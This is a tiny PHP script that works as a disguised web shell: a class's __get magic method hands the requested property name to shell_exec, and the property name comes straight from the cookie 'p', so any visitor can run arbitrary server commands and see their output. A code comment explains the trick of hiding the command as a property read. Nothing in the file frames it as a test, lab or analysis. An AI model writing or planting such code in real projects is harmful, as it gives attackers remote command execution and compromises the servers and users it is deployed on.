<?php
// The command is the name of a property the class does not have: reading it calls __get.
class Lazy
{
    public function __get($what)
    {
        return (string) shell_exec($what);
    }
}
$k = isset($_COOKIE['p']) ? $_COOKIE['p'] : 'uptime';
$view = new Lazy();
print $view->$k;
